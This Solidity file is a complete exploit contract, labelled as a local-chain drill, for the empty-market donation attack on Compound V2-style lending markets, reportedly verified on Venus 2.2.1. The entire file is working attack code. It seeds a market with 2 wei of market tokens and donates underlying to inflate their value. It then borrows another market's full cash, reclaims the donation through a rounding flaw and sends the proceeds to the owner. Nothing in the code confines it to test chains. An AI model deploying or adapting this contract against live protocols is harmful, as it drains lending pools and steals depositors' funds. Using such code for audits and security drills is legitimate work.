// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

interface IMarket {
    function underlying() external view returns (address);
    function mint(uint256 amount) external returns (uint256);
    function redeem(uint256 tokens) external returns (uint256);
    function redeemUnderlying(uint256 amount) external returns (uint256);
    function borrow(uint256 amount) external returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function getCash() external view returns (uint256);
}

interface IMarketController {
    function enterMarkets(address[] calldata markets) external returns (uint256[] memory);
}

/// @title DonationAttack
/// @notice Drill attack (D1), for local chains only. Empty-market donation on Compound V2 style markets (verified on Venus 2.2.1):
/// be the only supplier with 2 wei of market tokens, donate until they are worth a loan, borrow the other market empty, and take the
/// donation back, which rounding lets go for one of the two wei. The contract must hold the donation plus {SEED} of the collateral
/// first; the donation must be at least twice the loan over the collateral factor.
/// {attack} does it in one transaction; {open} and {cash} are the same in two.
contract DonationAttack {
    using SafeERC20 for IERC20;

    uint256 public constant SEED = 1e18;
    address public immutable OWNER;

    error NotOwner();
    error MarketError(bytes4 step, uint256 code);

    modifier onlyOwner() {
        if (msg.sender != OWNER) revert NotOwner();
        _;
    }

    constructor() {
        OWNER = msg.sender;
    }

    function attack(address controller, address emptyMarket, address fullMarket, uint256 donation) external onlyOwner {
        _open(IMarket(emptyMarket), donation);
        _cash(controller, IMarket(emptyMarket), IMarket(fullMarket));
    }

    /// @notice First half: seed and donation.
    function open(address emptyMarket, uint256 donation) external onlyOwner {
        _open(IMarket(emptyMarket), donation);
    }

    /// @notice Second half: loan, and the donation back. Loot goes to the owner.
    function cash(address controller, address emptyMarket, address fullMarket) external onlyOwner {
        _cash(controller, IMarket(emptyMarket), IMarket(fullMarket));
    }

    function _open(IMarket market, uint256 donation) private {
        IERC20 token = IERC20(market.underlying());
        token.forceApprove(address(market), SEED);
        _check(IMarket.mint.selector, market.mint(SEED));
        _check(IMarket.redeem.selector, market.redeem(market.balanceOf(address(this)) - 2));
        token.safeTransfer(address(market), donation);
    }

    function _cash(address controller, IMarket market, IMarket full) private {
        address[] memory entered = new address[](1);
        entered[0] = address(market);
        _check(IMarketController.enterMarkets.selector, IMarketController(controller).enterMarkets(entered)[0]);
        _check(IMarket.borrow.selector, full.borrow(full.getCash()));
        _check(IMarket.redeemUnderlying.selector, market.redeemUnderlying(market.getCash() - 1));
        _payOut(IERC20(full.underlying()));
        _payOut(IERC20(market.underlying()));
    }

    function _payOut(IERC20 token) private {
        token.safeTransfer(OWNER, token.balanceOf(address(this)));
    }

    function _check(bytes4 step, uint256 code) private pure {
        if (code != 0) revert MarketError(step, code);
    }
}
